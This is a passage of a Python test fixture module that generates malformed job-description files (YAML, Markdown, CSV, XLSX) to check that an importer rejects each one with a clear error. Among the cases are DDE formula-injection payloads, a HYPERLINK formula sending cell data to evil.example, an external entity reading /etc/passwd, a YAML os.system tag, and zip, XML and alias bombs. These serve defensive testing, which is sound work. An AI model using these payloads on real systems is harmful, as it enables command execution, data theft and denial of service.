"""A corpus of malformed job description files, made on demand in the tests.

Each :class:`Case` names the file, makes its bytes when asked (some are large),
gives a phrase the error's reason must contain, optionally its place, and the
kind of damage (:data:`KINDS`), so that the report can say what was tried in
each format. Every case must end in one clear :class:`ImportFailed` line.
"""

from __future__ import annotations

import datetime as dt
import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import lru_cache
from typing import Any

import openpyxl
from openpyxl.worksheet.formula import ArrayFormula

from pmwidgets.io.jobs.as_markdown import MAX_MARKDOWN_BYTES
from pmwidgets.io.jobs.files import MAX_BYTES

#: The kinds of damage, as the report names them.
KINDS = (
    "wrong type",
    "missing field",
    "empty",
    "binary",
    "encoding",
    "huge",
    "bomb",
    "formula",
    "layout",
)
FORMATS = ("yaml", "md", "csv", "xlsx")


@dataclass(frozen=True)
class Case:
    """One malformed file: its name, how to make it, and what the error must say."""

    id: str
    name: str
    make: Callable[[], bytes]
    phrase: str
    where: str | None = None
    kind: str = "layout"

    @property
    def fmt(self) -> str:
        """``yaml``, ``md``, ``csv``, ``xlsx``, or ``other`` for unsupported suffixes."""
        suffix = self.name.rpartition(".")[2].lower() if "." in self.name else ""
        return (
            {"yml": "yaml", "markdown": "md"}.get(suffix, suffix)
            if suffix
            in (
                "yaml",
                "yml",
                "md",
                "markdown",
                "csv",
                "xlsx",
            )
            else "other"
        )


def _const(data: bytes) -> Callable[[], bytes]:
    return lambda: data


# --- valid bases, broken one way at a time -------------------------------------

YAML_OK = """\
title: Automotive maintenance instructor
purpose: Teach apprentices.
responsibilities:
  - text: Teach lessons
    share: 60
  - text: Assess work
    share: 40
competencies:
  - name: Diagnostics
    required: 4
    anchors:
      1: Needs help
      5: Coaches others
"""

MD_OK = """\
# Automotive maintenance instructor

Teach apprentices.

## Responsibilities

1. Teach lessons (60%)
2. Assess work (40%)

## Competencies

- Diagnostics: 4
  - 1: Needs help
  - 5: Coaches others
"""

CSV_OK = """\
section,number,text,share,required,level,anchor
title,,Automotive maintenance instructor,,,,
responsibility,1,Teach lessons,60,,,
responsibility,2,Assess work,40,,,
competency,,Diagnostics,,4,,
anchor,,Diagnostics,,,1,Needs help
"""

#: The same bases with text outside ASCII on line 3 (a café, an apprentice in Chinese).
ACCENTED = {
    "yaml": YAML_OK.replace("Teach apprentices.", "Teach café apprentices 学徒."),
    "md": MD_OK.replace("Teach apprentices.", "Teach café apprentices 学徒."),
    "csv": CSV_OK.replace(
        "title,,Automotive maintenance instructor", "title,,Automotive café instructor 学徒"
    ),
}
#: the line of the first character outside ASCII in each accented base.
ACCENT_LINE = {"yaml": 2, "md": 3, "csv": 2}
BASES = {"yaml": YAML_OK, "md": MD_OK, "csv": CSV_OK}

#: Formula payloads: a command run through DDE, and its disguises.
DDE = "=cmd|' /C calc'!A0"
PLUS_DDE = "+cmd|' /C calc'!A0"
MINUS_DDE = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DDE_FUNCTION = '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")'


def _sub(base: str, old: str, new: str) -> bytes:
    assert old in base, old
    return base.replace(old, new, 1).encode("utf-8")


def xlsx(
    *,
    job: list[list[Any]] | None = None,
    responsibilities: list[list[Any]] | None = None,
    competencies: list[list[Any]] | None = None,
    anchors: list[list[Any]] | None = None,
    sheets: tuple[str, ...] = ("Job", "Responsibilities", "Competencies", "Anchors"),
    text_cells: dict[tuple[str, str], str] | None = None,
    formulas: dict[tuple[str, str], Any] | None = None,
) -> bytes:
    """A workbook in the layout, with any sheet's rows replaced.

    ``text_cells`` puts strings verbatim (even ``=...``) into cells, as a
    string rather than a formula: ``{("Responsibilities", "C2"): "=30"}``.
    ``formulas`` puts real formula cells (``"=50+50"`` or an ArrayFormula).
    """
    rows = {
        "Job": job
        if job is not None
        else [["field", "value"], ["title", "Automotive maintenance instructor"]],
        "Responsibilities": responsibilities
        if responsibilities is not None
        else [["number", "responsibility", "share"], [1, "Teach", 60], [2, "Assess", 40]],
        "Competencies": competencies
        if competencies is not None
        else [["competency", "required", "description"], ["Diagnostics", 4, None]],
        "Anchors": anchors
        if anchors is not None
        else [["competency", "level", "anchor"], ["Diagnostics", 1, "Needs help"]],
    }
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name in sheets:
        sheet = book.create_sheet(name)
        for row in rows.get(name, [["a", "b"]]):
            sheet.append(row)
    for (name, ref), value in (text_cells or {}).items():
        cell = book[name][ref]
        cell.value = value
        cell.data_type = "s"
    for (name, ref), value in (formulas or {}).items():
        book[name][ref] = value
        assert book[name][ref].data_type == "f", ref
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _rewrite(good: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
    """A copy of a zip with each part passed through ``change`` (None drops it)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(good)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            data = change(info.filename, src.read(info.filename))
            if data is not None:
                dst.writestr(info, data)
    return out.getvalue()


def _patch_part(part: str, change: Callable[[bytes], bytes]) -> Callable[[], bytes]:
    """A maker: the standard workbook with one part changed."""

    def make() -> bytes:
        return _rewrite(xlsx(), lambda name, data: change(data) if name == part else data)

    return make


def _patch_headers(data: bytes, name: str, **fields: int) -> bytes:
    """Overwrite fields of one part's local and central headers (sizes, crc, flags, method)."""
    offsets = {  # (local header offset, central header offset, struct format)
        "flags": (6, 8, "<H"),
        "method": (8, 10, "<H"),
        "crc": (14, 16, "<I"),
        "compressed": (18, 20, "<I"),
        "size": (22, 24, "<I"),
    }
    buf = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        local = archive.getinfo(name).header_offset
    end = buf.rfind(b"PK\x05\x06")
    central = struct.unpack_from("<I", buf, end + 16)[0]
    while buf[central : central + 4] == b"PK\x01\x02":
        n, m, k = struct.unpack_from("<HHH", buf, central + 28)
        if bytes(buf[central + 46 : central + 46 + n]).decode() == name:
            for key, value in fields.items():
                at_local, at_central, fmt = offsets[key]
                struct.pack_into(fmt, buf, local + at_local, value)
                struct.pack_into(fmt, buf, central + at_central, value)
        central += 46 + n + m + k
    return bytes(buf)


@lru_cache(maxsize=1)
def zip_bomb() -> bytes:
    """An .xlsx-looking zip with one part of 200 MB of zeros (about 200 KB packed)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            chunk = b"\0" * (1 << 20)
            for _ in range(200):
                member.write(chunk)
    return out.getvalue()


def _too_many_members() -> bytes:
    return _zip({"[Content_Types].xml": b"<Types/>"} | {f"xl/p{i}.xml": b"" for i in range(300)})


def _thousands_of_members() -> bytes:
    return _zip({"[Content_Types].xml": b"<Types/>"} | {f"xl/{i}": b"" for i in range(5000)})


def _many_small_bombs() -> bytes:
    """30 parts of 900 KB of zeros: each under the ratio check, 27 MB in all."""
    zeros = b"\0" * (900 * 1024)
    return _zip({"[Content_Types].xml": b"<Types/>"} | {f"xl/z{i}.xml": zeros for i in range(30)})


def _overlapping_bomb() -> bytes:
    """Fifield-style: 40 directory entries that all point at one 900 KB part."""
    data = _zip({"xl/a00.xml": b"\0" * (900 * 1024)})
    end = data.rfind(b"PK\x05\x06")
    size, offset = struct.unpack_from("<II", data, end + 12)
    entry = data[offset : offset + size]
    body = data[:offset]
    entries = b"".join(entry.replace(b"xl/a00.xml", f"xl/a{i:02d}.xml".encode()) for i in range(40))
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 40, 40, len(entries), offset, 0)
    return body + entries + tail


def _lying_size(part: str, crc_matches: bool) -> Callable[[], bytes]:
    """A part that says it is small but unpacks to 30 MB more than it says."""

    def make() -> bytes:
        good = xlsx()
        with zipfile.ZipFile(io.BytesIO(good)) as src:
            original = src.read(part)
        padded = _rewrite(good, lambda name, d: d + b" " * (30 << 20) if name == part else d)
        fields = {"size": len(original)}
        if crc_matches:
            fields["crc"] = zlib.crc32(original)
        return _patch_headers(padded, part, **fields)

    return make


def _method(method: int) -> Callable[[], bytes]:
    def make() -> bytes:
        return _patch_headers(xlsx(), "xl/workbook.xml", method=method)

    return make


def _bzip2_workbook() -> bytes:
    with zipfile.ZipFile(io.BytesIO(xlsx())) as src:
        parts = {info.filename: src.read(info.filename) for info in src.infolist()}
    return _zip(parts, zipfile.ZIP_BZIP2)


def _encrypted() -> bytes:
    return _patch_headers(xlsx(), "xl/workbook.xml", flags=1)


def _absurd_declared_size() -> bytes:
    return _patch_headers(xlsx(), "xl/styles.xml", size=0xFFFFFFFE)


def _nested_zips() -> bytes:
    """42.zip in small: zips of zips of 900 KB of zeros, inside an .xlsx-looking zip."""
    zeros = _zip({f"z{i}.bin": b"\0" * (900 * 1024) for i in range(10)})
    middle = _zip({f"level2_{i}.zip": zeros for i in range(10)}, zipfile.ZIP_STORED)
    return _zip({"[Content_Types].xml": b"<Types/>", "xl/embeddings/level1.zip": middle})


def _workbook_in_a_zip() -> bytes:
    return _zip({"jd.xlsx": xlsx()})


def _entity_bomb() -> bytes:
    """A workbook whose sheet XML declares entities (an XML bomb's first step)."""
    doctype = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    return _with_doctype(doctype, b"&b;")


def _with_doctype(doctype: bytes, teach: bytes) -> bytes:
    def change(data: bytes) -> bytes:
        head, sep, body = data.partition(b"?>")
        if not sep:
            head, body = b"", data
        return head + sep + doctype + body.replace(b"Teach", teach, 1)

    return _patch_part("xl/worksheets/sheet2.xml", change)()


def _external_entity() -> bytes:
    return _with_doctype(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', b"&e;")


def _quadratic_entity() -> bytes:
    big = b"x" * 50_000
    return _with_doctype(b'<!DOCTYPE x [<!ENTITY q "' + big + b'">]>', b"&q;" * 200)


def _damaged_sheet() -> bytes:
    return _patch_part("xl/worksheets/sheet2.xml", lambda d: d[: len(d) // 2])()


def _many_rows() -> bytes:
    rows: list[list[Any]] = [["number", "responsibility", "share"]]
    rows += [[None, f"Task {i}", 0] for i in range(1001)]
    return xlsx(responsibilities=rows)


def _far_row() -> bytes:
    """One cell at the last row Excel has: a million empty rows before it."""
    return _patch_part(
        "xl/worksheets/sheet2.xml",
        lambda d: d.replace(
            b"</sheetData>",
            b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'
            b"</sheetData>",
        ),
    )()


def _chartsheet_only() -> bytes:
    book = openpyxl.Workbook()
    book.create_chartsheet("Job")
    book.remove(book.active)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _billion_laughs() -> bytes:
    lines = ['lol0: &l0 "lol"']
    for i in range(1, 10):
        refs = ",".join([f"*l{i - 1}"] * 10)
        lines.append(f"lol{i}: &l{i} [{refs}]")
    return ("\n".join(lines) + "\ntitle: *l9\n").encode()


def _billion_laughs_in_responsibilities() -> bytes:
    lines = ["title: x", "purpose: &p0 lol"]
    text = YAML_OK.replace("purpose: Teach apprentices.", "\n".join(lines[1:]))
    refs = ", ".join(["*p0"] * 10)
    return text.replace("  - text: Teach lessons", f"  - text: [{refs}]").encode()


def _deep_flow() -> bytes:
    return b"title: " + b"[" * 100_000 + b"]" * 100_000


def _deep_flow_mapping() -> bytes:
    return b"title: x\nresponsibilities: " + b"{a: " * 5000 + b"1" + b"}" * 5000 + b"\n"


def _deep_block() -> bytes:
    return "".join("  " * i + f"k{i}:\n" for i in range(60)).encode()


def _deep_block_sequence() -> bytes:
    return b"title: x\nresponsibilities:\n" + b"- " * 200 + b"x (100%)\n"


def _many_values() -> bytes:
    items = "".join(f"  - text: task {i}\n    share: 0\n" for i in range(9_000))
    return f"title: x\nresponsibilities:\n{items}".encode()


def _many_keys() -> bytes:
    return b"title: x\n" + b"".join(b"k%d: 1\n" % i for i in range(30_000))


def _big(suffix: str) -> Callable[[], bytes]:
    def make() -> bytes:
        if suffix == "xlsx":
            return b"PK" + b"\0" * MAX_BYTES
        return b"title: x\n" + b"#" * MAX_BYTES

    return make


def _just_over(fmt: str) -> Callable[[], bytes]:
    """A well-formed file padded to one byte over the limit (a long purpose)."""

    def make() -> bytes:
        if fmt == "xlsx":
            data = xlsx()
            return data + b"\0" * (MAX_BYTES + 1 - len(data))  # trailing bytes after the zip
        base = BASES[fmt].encode()
        pad = b"x" * (MAX_BYTES - len(base) - 100)
        if fmt == "yaml":
            data = base.replace(b"Teach apprentices.", b"'" + pad + b"'")
        elif fmt == "md":
            data = base.replace(b"Teach apprentices.", pad)
        else:
            data = base + b'purpose,,"' + pad + b'",,,,\n'
        return data + b"\n" * (MAX_BYTES + 1 - len(data))

    return make


def _huge_text(fmt: str) -> Callable[[], bytes]:
    """A 1.5 MB title or responsibility: under the file limit, over the field's."""

    def make() -> bytes:
        big = "A" * 1_500_000
        if fmt == "yaml":
            return _sub(YAML_OK, "Automotive maintenance instructor", big)
        if fmt == "csv":
            return _sub(CSV_OK, "Teach lessons", f'"{big}"')
        return xlsx(responsibilities=[["responsibility", "share"], ["A" * 40_000, 100]])

    return make


def _binary_signatures() -> dict[str, bytes]:
    rng = random.Random(7)
    return {
        "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
        + bytes(rng.randrange(256) for _ in range(64)),
        "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
        "gzip": gzip.compress(b"title: x\n" * 50, mtime=0),
        "elf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56,
        "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01",
        "random": bytes(rng.randrange(256) for _ in range(4096)),
        "xlsx-renamed": b"",  # filled in lazily: an .xlsx's bytes under a text name
    }


# --- encodings -------------------------------------------------------------------


def _encoded(fmt: str, how: str) -> Callable[[], bytes]:
    def make() -> bytes:
        text = ACCENTED[fmt]
        utf8 = text.encode("utf-8")
        if how == "utf-16":
            return text.encode("utf-16")
        if how == "utf-16-be-bom":
            return b"\xfe\xff" + text.encode("utf-16-be")
        if how == "utf-16-le":
            return text.encode("utf-16-le")
        if how == "utf-16-be":
            return text.encode("utf-16-be")
        if how == "utf-32":
            return text.encode("utf-32")
        if how == "cp1252":
            return text.replace("学徒", "“ok”").encode("cp1252")
        if how == "gbk":
            return text.replace("é", "e").replace("学徒", "中文").encode("gbk")
        if how == "shift-jis":
            return text.replace("é", "e").replace("学徒", "見習い").encode("shift_jis")
        if how == "bom-then-latin1":
            return b"\xef\xbb\xbf" + text.replace("学徒", "").encode("latin-1")
        if how == "mixed":  # UTF-8 first, then a line saved as Latin-1
            return utf8 + "# naïve\n".encode("latin-1")
        if how == "overlong":
            return utf8.replace("é".encode(), b"\xc0\xaf")
        if how == "surrogate":
            return utf8.replace("é".encode(), b"\xed\xa0\x80")
        if how == "truncated":
            return utf8 + "学".encode()[:2]
        raise AssertionError(how)

    return make


#: encoding → (phrase, whether the line is known)
ENCODINGS = {
    "utf-16": ("(it is UTF-16)", False),
    "utf-16-be-bom": ("(it is UTF-16)", False),
    "utf-16-le": ("UTF-16 text without a byte-order mark", False),
    "utf-16-be": ("UTF-16 text without a byte-order mark", False),
    "utf-32": ("(it is UTF-32)", False),
    "cp1252": ("not UTF-8 text: save it as UTF-8", True),
    "gbk": ("not UTF-8 text: save it as UTF-8", True),
    "shift-jis": ("not UTF-8 text: save it as UTF-8", True),
    "bom-then-latin1": ("not UTF-8 text: save it as UTF-8", True),
    "mixed": ("not UTF-8 text: save it as UTF-8", False),
    "overlong": ("not UTF-8 text: save it as UTF-8", True),
    "surrogate": ("not UTF-8 text: save it as UTF-8", True),
    "truncated": ("not UTF-8 text: save it as UTF-8", False),
}


# --- the corpus ---------------------------------------------------------------------


def cases() -> list[Case]:
    """Every malformed case, across all four formats."""
    c: list[Case] = []

    def add(
        id_: str,
        name: str,
        make: Callable[[], bytes] | bytes,
        phrase: str,
        where: str | None = None,
        kind: str = "layout",
    ) -> None:
        maker = _const(make) if isinstance(make, bytes) else make
        c.append(Case(id_, name, maker, phrase, where, kind))

    # --- any format ---
    for suffix in FORMATS:
        add(f"empty-{suffix}", f"jd.{suffix}", b"", "the file is empty", kind="empty")
        add(f"too-big-{suffix}", f"jd.{suffix}", _big(suffix), "over the 2 MB limit", kind="huge")
        add(
            f"just-over-{suffix}",
            f"jd.{suffix}",
            _just_over(suffix),
            "the file is 2.0 MB, over the 2 MB limit",
            "-",
            kind="huge",
        )
    for suffix in ("yaml", "md", "csv"):
        add(f"blank-{suffix}", f"jd.{suffix}", b" \n\t\n", "empty", kind="empty")
        add(f"newlines-{suffix}", f"jd.{suffix}", b"\r\n" * 1000, "empty", kind="empty")
        add(f"bom-only-{suffix}", f"jd.{suffix}", b"\xef\xbb\xbf", "empty", kind="empty")
        add(f"nul-{suffix}", f"jd.{suffix}", b"title: a\n\0\0x", "NUL", "line 2", kind="binary")
        add(
            f"latin1-{suffix}",
            f"jd.{suffix}",
            "title: caf\xe9\n".encode("latin-1"),
            "not UTF-8 text: save it as UTF-8",
            "line 1",
            kind="encoding",
        )
        for how, (phrase, located) in ENCODINGS.items():
            if how == "utf-16":
                add(
                    f"utf16-{suffix}",
                    f"jd.{suffix}",
                    _encoded(suffix, how),
                    phrase,
                    None,
                    "encoding",
                )
                continue
            where = f"line {ACCENT_LINE[suffix]}" if located else None
            add(f"{how}-{suffix}", f"jd.{suffix}", _encoded(suffix, how), phrase, where, "encoding")
        for what, phrase in (
            ("png", "looks like an image"),
            ("pdf", "looks like a PDF"),
            ("gzip", "looks like a gzip"),
            ("elf", "looks like a program"),
            ("jpeg", "looks like an image"),
            ("random", "not UTF-8"),
            ("xlsx-renamed", "looks like a zip archive"),
        ):
            sig = _binary_signatures()[what]
            maker: Callable[[], bytes] = xlsx if what == "xlsx-renamed" else _const(sig)
            phrase = "binary data" if what == "random" and sig.find(b"\0") >= 0 else phrase
            add(f"binary-{what}-{suffix}", f"jd.{suffix}", maker, phrase, kind="binary")
    for name in ("jd.txt", "jd.docx", "jd", "jd.json"):
        add(f"suffix-{name}", name, b"title: x", "unsupported file type")
    add("suffix-xls", "jd.xls", b"x", "save it as .xlsx")

    # --- YAML ---
    y = YAML_OK

    def yaml(id_: str, data: bytes, phrase: str, where: str | None = None, kind: str = "") -> None:
        add(f"yaml-{id_}", "jd.yaml", data, phrase, where, kind or "layout")

    T, M, F = "wrong type", "missing field", "formula"
    yaml(
        "share-word",
        _sub(y, "share: 60", "share: thirty"),
        "the share of time must be a whole number, like 3, not 'thirty'",
        "responsibilities[1].share, line 5",
        T,
    )
    yaml("share-formula", _sub(y, "share: 60", "share: '=30'"), "holds a formula", kind=F)
    yaml("share-list", _sub(y, "share: 60", "share: [60]"), "not a list", kind=T)
    # a share left out (or null, or "text" without "(30%)") is not set yet: that imports (see
    # test_job_descriptions_without_shares_import); only a total over 100% is refused
    yaml(
        "title-missing",
        _sub(y, "title: Automotive maintenance instructor\n", ""),
        "the job title is missing",
        kind=M,
    )
    yaml(
        "title-empty",
        _sub(y, "title: Automotive maintenance instructor", "title: '  '"),
        "the job title is empty",
        "title, line 1",
        M,
    )
    yaml("title-long", _sub(y, "Automotive maintenance instructor", "x" * 400), "too long", kind=T)
    yaml(
        "title-list",
        _sub(y, "title: Automotive maintenance instructor", "title: [a, b]"),
        "must be text, not a list",
        kind=T,
    )
    yaml(
        "total-110",
        _sub(y, "share: 40", "share: 50"),
        "shares of time total 110%, more than 100%: take 10 off",
        "responsibilities, line 4",
    )
    yaml("share-negative", _sub(y, "share: 60", "share: -10"), "from 0 to 100", kind=T)
    yaml(
        "duplicate-competency",
        _sub(y, "    required: 4\n", "    required: 4\n  - name: DIAGNOSTICS\n    required: 3\n"),
        "competency 'DIAGNOSTICS' appears twice",
    )
    yaml(
        "required-0",
        _sub(y, "required: 4", "required: 0"),
        "the required level must be from 1 to 5, not 0",
        kind=T,
    )
    yaml(
        "required-7",
        _sub(y, "required: 4", "required: 7"),
        "the required level must be from 1 to 5, not 7",
        "competencies[1].required, line 10",
        T,
    )
    yaml(
        "required-missing",
        _sub(y, "    required: 4\n", ""),
        "the required level is missing",
        kind=M,
    )
    yaml(
        "anchor-level-6",
        _sub(y, "5: Coaches", "6: Coaches"),
        "an anchor level must be from 1",
        kind=T,
    )
    yaml("anchor-level-word", _sub(y, "5: Coaches", "five: Coaches"), "anchor level", kind=T)
    yaml(
        "anchors-list",
        _sub(y, "      1: Needs help\n      5: Coaches others\n", "      - a\n"),
        "anchors must map levels",
        kind=T,
    )
    yaml("top-list", b"- title: x\n- b\n", "the top level is a list", kind=T)
    yaml("top-scalar", b"just some words\n", "the top level is a single value", kind=T)
    yaml("comments-only", b"# nothing here\n", "empty", kind="empty")
    yaml("unknown-key", _sub(y, "purpose:", "purpse:"), "unknown key 'purpse'", "purpse, line 2")
    yaml("unknown-item-key", _sub(y, "share: 40", "shares: 40"), "unknown key 'shares'")
    yaml("responsibilities-map", b"title: x\nresponsibilities:\n  a: 1\n", "must be a list", kind=T)
    yaml(
        "responsibilities-empty",
        b"title: x\nresponsibilities: []\n",
        "list at least one responsibility",
        kind=M,
    )
    yaml(
        "numbered-wrong",
        _sub(y, "  - text: Assess work\n", "  - number: 3\n    text: Assess work\n"),
        "numbered 1, 2, 3",
    )
    yaml("syntax", b"title: 'unclosed\nresponsibilities: x\n", "not valid YAML")
    yaml("tab-indent", b"title: x\nresponsibilities:\n\t- a (100%)\n", "not valid YAML")
    yaml("python-tag", b"title: !!python/object/apply:os.system ['echo hi']\n", "not valid YAML")
    yaml("two-documents", b"title: a\n---\ntitle: b\n", "more than one YAML document")
    yaml("duplicate-key", b"title: a\ntitle: b\n", "the key 'title' appears twice", "line 2")
    yaml("control-char", b"title: a\x07b\n", "not valid YAML", kind="binary")
    # wrong types, one field at a time
    yaml("share-bool", _sub(y, "share: 60", "share: yes"), "not True", kind=T)
    yaml("share-float", _sub(y, "share: 60", "share: 59.5"), "not 59.5", kind=T)
    yaml("share-date", _sub(y, "share: 60", "share: 2024-01-01"), "not a date", kind=T)
    yaml("share-mapping", _sub(y, "share: 60", "share: {a: 1}"), "not a dict", kind=T)
    yaml("share-infinite", _sub(y, "share: 60", "share: .inf"), "not inf", kind=T)
    yaml("share-nan", _sub(y, "share: 60", "share: .nan"), "not nan", kind=T)
    yaml(
        "share-huge-number",
        _sub(y, "share: 60", "share: " + "9" * 5000),
        "has 5,000 digits",
        "line 5",
        T,
    )
    yaml("required-word", _sub(y, "required: 4", "required: four"), "not 'four'", kind=T)
    yaml("required-list", _sub(y, "required: 4", "required: [4]"), "not a list", kind=T)
    yaml(
        "number-word",
        _sub(y, "  - text: Teach", "  - number: one\n    text: Teach"),
        "not 'one'",
        kind=T,
    )
    yaml(
        "title-mapping",
        _sub(y, "title: Automotive maintenance instructor", "title: {a: b}"),
        "not a mapping",
        kind=T,
    )
    yaml(
        "purpose-list", _sub(y, "purpose: Teach apprentices.", "purpose: [a]"), "not a list", kind=T
    )
    yaml(
        "source-mapping",
        y.encode() + b"source: {a: b}\n",
        "the source must be text, not a mapping",
        kind=T,
    )
    yaml(
        "competencies-mapping",
        b"title: x\nresponsibilities: [a (100%)]\ncompetencies: {a: 1}\n",
        "competencies must be a list",
        kind=T,
    )
    yaml(
        "competency-number",
        b"title: x\nresponsibilities: [a (100%)]\ncompetencies: [4]\n",
        "a competency must have a name",
        kind=T,
    )
    yaml(
        "responsibility-number",
        b"title: x\nresponsibilities: [100]\n",
        "a responsibility must be",
        kind=T,
    )
    yaml("anchor-text-list", _sub(y, "1: Needs help", "1: [a, b]"), "not a list", kind=T)
    yaml("binary-tag", _sub(y, "share: 60", "share: !!binary aGVsbG8="), "not binary data", kind=T)
    yaml(
        "set-tag",
        _sub(y, "title: Automotive maintenance instructor", "title: !!set {a, b}"),
        "the job title must be text",
        kind=T,
    )
    yaml("key-mapping", b"title: x\n? [a, b]\n: 1\n", "not valid YAML", "line 2")
    # missing fields
    yaml(
        "text-missing",
        _sub(y, "  - text: Teach lessons\n", "  - "),
        "the responsibility text is missing",
        kind=M,
    )
    yaml(
        "name-missing",
        _sub(y, "  - name: Diagnostics\n    required: 4", "  - required: 4"),
        "the competency name is missing",
        kind=M,
    )
    yaml(
        "no-responsibilities-key",
        b"title: x\npurpose: y\n",
        "list at least one responsibility",
        kind=M,
    )
    yaml(
        "responsibilities-null",
        b"title: x\nresponsibilities:\n",
        "list at least one responsibility",
        kind=M,
    )
    yaml("empty-mapping", b"{}\n", "the job title is missing", kind=M)
    yaml("only-document-marker", b"---\n...\n", "empty", kind="empty")
    yaml(
        "nul-escape-title",
        _sub(y, "title: Automotive maintenance instructor", 'title: "Instructor\\0"'),
        "holds a NUL character",
        "title, line 1",
        "binary",
    )
    yaml(
        "nul-escape-anchor",
        _sub(y, "1: Needs help", '1: "Needs\\0help"'),
        "holds a NUL character",
        "competencies[1].anchors.1, line 12",
        "binary",
    )
    yaml(
        "surrogate-escape",
        _sub(y, "purpose: Teach apprentices.", 'purpose: "\\ud800"'),
        "not valid YAML",
        "line 2",
        "encoding",
    )
    # formulas where numbers belong
    yaml("share-dde", _sub(y, "share: 60", f'share: "{DDE}"'), "holds a formula", kind=F)
    yaml(
        "share-plus-dde",
        _sub(y, "share: 60", f'share: "{PLUS_DDE}"'),
        "must be a whole number",
        kind=F,
    )
    yaml(
        "number-minus-dde",
        _sub(y, "  - text: Teach", f'  - number: "{MINUS_DDE}"\n    text: Teach'),
        "must be a whole number",
        kind=F,
    )
    yaml(
        "required-at",
        _sub(y, "required: 4", f'required: "{AT_SUM}"'),
        "must be a whole number",
        kind=F,
    )
    yaml("share-tab-formula", _sub(y, "share: 60", 'share: "\\t=30"'), "holds a formula", kind=F)
    yaml("share-cr-formula", _sub(y, "share: 60", 'share: "\\r=30"'), "holds a formula", kind=F)
    yaml(
        "share-hyperlink",
        _sub(y, "share: 60", "share: '" + HYPERLINK.replace("'", "''") + "'"),
        "holds a formula",
        kind=F,
    )
    yaml("anchor-level-formula", _sub(y, "5: Coaches", "'=5': Coaches"), "holds a formula", kind=F)
    # bombs: anchors and aliases, nesting, sheer number
    add("yaml-billion-laughs", "jd.yaml", _billion_laughs, "aliases are not allowed", kind="bomb")
    add(
        "yaml-alias-only",
        "jd.yaml",
        b"a: &x 1\nb: *x\n",
        "aliases are not allowed",
        "line 1",
        "bomb",
    )
    add(
        "yaml-recursive-anchor",
        "jd.yaml",
        b"title: &a [*a]\n",
        "aliases are not allowed",
        "line 1",
        "bomb",
    )
    add(
        "yaml-recursive-mapping",
        "jd.yaml",
        b"title: &a {x: *a}\n",
        "aliases are not allowed",
        kind="bomb",
    )
    add(
        "yaml-merge-key",
        "jd.yaml",
        b"base: &b {title: x}\nother:\n  <<: *b\n",
        "aliases are not allowed",
        kind="bomb",
    )
    add("yaml-anchored-key", "jd.yaml", b"&k title: x\n", "aliases are not allowed", kind="bomb")
    add(
        "yaml-laughs-in-list",
        "jd.yaml",
        _billion_laughs_in_responsibilities,
        "aliases are not allowed",
        kind="bomb",
    )
    add("yaml-deep-flow", "jd.yaml", _deep_flow, "nested too deeply", kind="bomb")
    add("yaml-deep-flow-mapping", "jd.yaml", _deep_flow_mapping, "nested too deeply", kind="bomb")
    add("yaml-deep-block", "jd.yaml", _deep_block, "nested too deeply", kind="bomb")
    add(
        "yaml-deep-block-sequence",
        "jd.yaml",
        _deep_block_sequence,
        "nested too deeply",
        kind="bomb",
    )
    add("yaml-many-values", "jd.yaml", _many_values, "too many values", kind="bomb")
    add("yaml-many-keys", "jd.yaml", _many_keys, "too many values", kind="bomb")
    add("yaml-huge-title", "jd.yaml", _huge_text("yaml"), "too long", kind="huge")
    add(
        "yaml-huge-comment",
        "jd.yaml",
        lambda: b"#" + b"x" * 1_900_000 + b"\n",
        "empty",
        kind="huge",
    )
    add("yaml-long-key", "jd.yaml", lambda: b"x" * 2000 + b": 1\n", "not valid YAML", kind="huge")

    # --- Markdown ---
    m = MD_OK

    def md(id_: str, data: bytes, phrase: str, where: str | None = None, kind: str = "") -> None:
        add(f"md-{id_}", "jd.md", data, phrase, where, kind or "layout")

    md(
        "no-title",
        _sub(m, "# Automotive maintenance instructor\n\n", ""),
        "job title as a '# Title' heading",
        "line 1",
        M,
    )
    md("text-before-title", b"Hello\n\n" + m.encode(), "job title as a '# Title' heading")
    md("two-titles", _sub(m, "## Competencies", "# Competencies"), "only one job title", "line 10")
    md(
        "unknown-section",
        _sub(m, "## Competencies", "## Working conditions"),
        "unknown section 'Working conditions'",
        "line 10",
    )
    md("h3", _sub(m, "## Competencies", "### Competencies"), "unexpected heading")
    md("section-twice", m.encode() + b"\n## responsibilities\n\n- x (1%)\n", "appears twice")
    md(
        "share-word",
        _sub(m, "(40%)", "(forty%)"),
        "must be a whole number, like 3, not 'forty'",
        kind=T,
    )
    md(
        "total-110",
        _sub(m, "(40%)", "(50%)"),
        "shares of time total 110%, more than 100%",
        "line 5",
    )
    md(
        "paragraph-in-responsibilities",
        _sub(m, "1. Teach lessons (60%)\n", "Teach lessons (60%)\n\n"),
